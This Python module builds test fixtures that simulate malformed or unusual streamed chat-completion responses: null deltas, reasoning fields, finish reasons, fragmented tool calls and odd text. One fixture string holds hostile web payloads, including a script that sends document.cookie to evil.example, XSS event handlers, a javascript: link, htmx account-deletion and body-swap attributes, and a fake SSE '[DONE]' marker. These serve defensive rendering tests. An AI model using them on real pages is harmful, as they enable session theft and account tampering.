"""Items 5 and 11 to 15: what stands in the deltas."""

from __future__ import annotations

from collections.abc import Iterable, Sequence
from itertools import chain
from typing import Any

from studio.sandbox.chunks import event
from studio.sandbox.performers import Ask, Performer
from studio.sandbox.steps import SSE, Reply
from studio.sandbox.telling import closing
from studio.sandbox.ugly.behaviour import TEXT, Behaviour, streamed, whole
from studio.sandbox.wish import pieces

Delta = dict[str, Any]

THOUGHT = "First I weigh the words, then I answer."
THOUGHTS = pieces(THOUGHT)
TAGGED = f"<think>{THOUGHT}</think>\n\n{TEXT}"
HOSTILE = (
    '<script>fetch("https://evil.example/?c=" + document.cookie)</script>\n\n'
    '<img src="x" onerror="alert(1)"> <svg onload=alert(2)></svg>\n\n'
    '<iframe srcdoc="<script>alert(3)</script>"></iframe>\n\n'
    '<form action="/fragments/sessions" method="post">\n'
    '<button hx-delete="/fragments/account">Win</button></form>\n\n'
    "[click](javascript:alert(4)) ![pixel](https://evil.example/pixel.png)\n\n"
    "<b id=toasts class=toast hx-get=/x>bold</b>\n\n"
    '</article></main><style>body { display: none }</style><hx-partial hx-target="body">gone</hx-partial>\n\n'
    "`{{ 7 * 7 }}` {% raw %} data: [DONE]\n\nStill here."
)
LONG_LINE = "long " * 60_000
UNCLOSED = (
    "Look:\n\n| a | b |\n| - | -\n\n**bold without end, `code without end, $x\n\n"
    "```python\nfor dish in buffet:\n    print(dish)\n"
)
MIXED = (
    "👨‍👩‍👧‍👦 🏳️‍🌈 👍🏽 🇮🇸 e\u0301 · "
    "שלום עולם · مرحبا بالعالم · \u202eright to left\u202c · 你好 · Z̷͓̅a̸l̵g̷o̶ · \ufdfa"
)


def _deltas(
    deltas: Iterable[Delta | None], *, finish: str = "stop", message: Delta | None = None
) -> Performer:
    """Exactly these deltas, then the ordinary ending; `message` is its like without `stream`."""
    kept = list(deltas)

    def perform(ask: Ask) -> Reply:
        ask.generation.completion_tokens = len(kept)
        if not ask.wish.is_stream:
            return whole(ask, finish=finish, **(message or {}))
        events = [ask.chunks.delta(delta) for delta in kept]
        return Reply(200, [*events, *closing(ask, finish)], SSE)

    return perform


def _contents(text: str) -> list[Delta]:
    return [{"role": "assistant", "content": piece} for piece in pieces(text)]


def _before_each(odd: Sequence[Delta | None]) -> list[Delta | None]:
    return list(chain.from_iterable((*odd, content) for content in _contents(TEXT)))


def _thinking(key: str) -> list[Delta]:
    return [{"role": "assistant", "content": "", key: thought} for thought in THOUGHTS]


def _details(kind: str, key: str, values: Sequence[str]) -> list[Delta]:
    details = [{"type": kind, key: value, "format": "unknown", "index": 0} for value in values]
    return [{"role": "assistant", "content": "", "reasoning_details": [detail]} for detail in details]


def _both_ways(ask: Ask) -> Reply:
    ask.generation.reasoning_tokens = len(THOUGHTS)
    ask.generation.completion_tokens = len(THOUGHTS) + len(pieces(TEXT))
    if not ask.wish.is_stream:
        return whole(ask, reasoning=THOUGHT)
    told = [*map(ask.chunks.reasoning, THOUGHTS), *map(ask.chunks.content, pieces(TEXT))]
    return Reply(200, [*told, *closing(ask, "stop")], SSE)


def _unknown_keys(ask: Ask) -> Reply:
    if not ask.wish.is_stream:
        return whole(ask, mood="fine")
    strange: dict[str, Any] = {
        "openrouter_metadata": {"x": [1, None]},
        "obfuscation": "qwertz",
        "alignment": None,
        "timings": {},
    }
    ping = [
        b"event: ping\n" + event({"type": "ping"}),
        ask.chunks.event([], debug={"echo": True}),
        b"data: null\n\n",
    ]
    told = [ask.chunks.delta({"content": piece, "mood": "fine"}, **strange) for piece in pieces(TEXT)]
    return Reply(200, [*ping, *told, *closing(ask, "stop")], SSE)


def _call(index: int, name: str | None = None, arguments: str = "") -> Delta:
    start = {} if name is None else {"id": f"call_{index}", "type": "function"}
    function = {"arguments": arguments} if name is None else {"name": name, "arguments": arguments}
    return {"index": index, **start, "function": function}


def _calls(*steps: Sequence[Delta], finish: str = "tool_calls") -> Performer:
    whole_calls = [
        {**_call(0, "count_plates", '{"table": 7}')},
        {**_call(1, "count_spoons", '{"table": 7}')},
    ]
    deltas = [{"role": "assistant", "content": None, "tool_calls": list(step)} for step in steps]
    return _deltas(deltas, finish=finish, message={"content": None, "tool_calls": whole_calls})


NOTHING = {"content": ""}
ENCRYPTED = _details("reasoning.encrypted", "data", ["c2VjcmV0", "c2F1Y2U="])

CONTENT: dict[str, Behaviour] = {
    "content-null": Behaviour(
        5,
        "`content: null` and `reasoning: null` between the pieces",
        _deltas(_before_each([{"content": None, "reasoning": None}])),
    ),
    "empty-delta": Behaviour(5, "`delta: {}` between the pieces", _deltas(_before_each([{}]))),
    "no-delta": Behaviour(5, "A choice without `delta` between the pieces", _deltas(_before_each([None]))),
    "role-once": Behaviour(
        5,
        "`role` only on the first chunk, as OpenAI does",
        _deltas([{"role": "assistant", "content": ""}, *({"content": piece} for piece in pieces(TEXT))]),
    ),
    "unknown-keys": Behaviour(11, "Unknown keys everywhere, pings, `data: null`", _unknown_keys),
    "reasoning": Behaviour(
        12, "Thoughts in `reasoning` and `reasoning_details`: one text, told twice", _both_ways
    ),
    "reasoning-content": Behaviour(
        12,
        "Thoughts in `reasoning_content`, as llama.cpp and LiteLLM do",
        _deltas([*_thinking("reasoning_content"), *_contents(TEXT)], message={"reasoning_content": THOUGHT}),
    ),
    "reasoning-only-string": Behaviour(
        12,
        "Thoughts in `reasoning` alone",
        _deltas([*_thinking("reasoning"), *_contents(TEXT)], message={"reasoning": THOUGHT}),
    ),
    "reasoning-details-only": Behaviour(
        12,
        "Thoughts in `reasoning_details` alone",
        _deltas([*_details("reasoning.text", "text", THOUGHTS), *_contents(TEXT)]),
    ),
    "reasoning-summary": Behaviour(
        12,
        "Thoughts as `reasoning.summary`",
        _deltas([*_details("reasoning.summary", "summary", THOUGHTS), *_contents(TEXT)]),
    ),
    "reasoning-encrypted": Behaviour(
        12, "Encrypted thoughts: nothing to show", _deltas([*ENCRYPTED, *_contents(TEXT)])
    ),
    "think-tags": Behaviour(
        12, "Thoughts in <think> tags within the content", streamed(list, TAGGED), text=TAGGED
    ),
    "finish-length-no-content": Behaviour(
        13,
        "The thoughts use up the limit: finish `length`, no content",
        _deltas(_thinking("reasoning"), finish="length", message={**NOTHING, "reasoning": THOUGHT}),
        text="",
        finish="length",
    ),
    "finish-length": Behaviour(13, "Cut at the limit", streamed(list, finish="length"), finish="length"),
    "finish-content-filter": Behaviour(
        13, "Ended by a content filter", streamed(list, finish="content_filter"), finish="content_filter"
    ),
    "finish-unknown": Behaviour(
        13, "An unknown finish reason", streamed(list, finish="satisfied"), finish="satisfied"
    ),
    "finish-error": Behaviour(
        13, "Finish reason `error` without an error object", streamed(list, finish="error"), finish="error"
    ),
    "no-content": Behaviour(13, "Nothing at all, and finish `stop`", _deltas([], message=NOTHING), text=""),
    "tool-fragments": Behaviour(
        14,
        "A tool call in fragments",
        _calls([_call(0, "count_plates")], [_call(0, arguments='{"ta')], [_call(0, arguments='ble": 7}')]),
        text="",
        finish="tool_calls",
    ),
    "tool-whole": Behaviour(
        14,
        "A tool call in one chunk",
        _calls([_call(0, "count_plates", '{"table": 7}')]),
        text="",
        finish="tool_calls",
    ),
    "tool-parallel": Behaviour(
        14,
        "Two tool calls, interleaved",
        _calls(
            [_call(0, "count_plates"), _call(1, "count_spoons")],
            [_call(1, arguments='{"table"')],
            [_call(0, arguments='{"table"'), _call(1, arguments=": 7}")],
            [_call(0, arguments=": 7}")],
        ),
        text="",
        finish="tool_calls",
    ),
    "html": Behaviour(
        15, "Hostile HTML, script, htmx attributes and links", streamed(list, HOSTILE), text=HOSTILE
    ),
    "long-line": Behaviour(
        15,
        "300,000 characters in one event, without a line end",
        _deltas([{"role": "assistant", "content": LONG_LINE}], message={"content": LONG_LINE}),
        text=LONG_LINE,
    ),
    "unclosed-fence": Behaviour(
        15, "Markdown that closes nothing it opened", streamed(list, UNCLOSED), text=UNCLOSED
    ),
    "emoji-rtl": Behaviour(
        15, "Joined emoji, right-to-left text, combining marks", streamed(list, MIXED), text=MIXED
    ),
}
